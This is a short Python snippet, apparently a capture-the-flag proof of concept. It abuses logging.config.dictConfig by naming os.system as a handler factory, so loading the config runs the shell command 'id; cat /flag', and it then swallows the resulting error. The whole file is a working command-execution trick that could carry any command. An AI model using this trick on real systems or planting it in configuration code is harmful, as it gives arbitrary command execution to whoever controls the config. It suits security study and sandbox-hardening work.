# logging.config resolves the "()" factory of a handler from a dotted name
# and calls it with the remaining keys as keyword arguments.
import logging.config

CONFIG = {
    "version": 1,
    "handlers": {
        "audit": {"()": "os.system", "command": "id; cat /flag"},
    },
    "root": {"handlers": ["audit"], "level": "INFO"},
}

try:
    logging.config.dictConfig(CONFIG)
except (ValueError, TypeError, AttributeError):
    pass   # the factory returned an int, not a handler: the command already ran
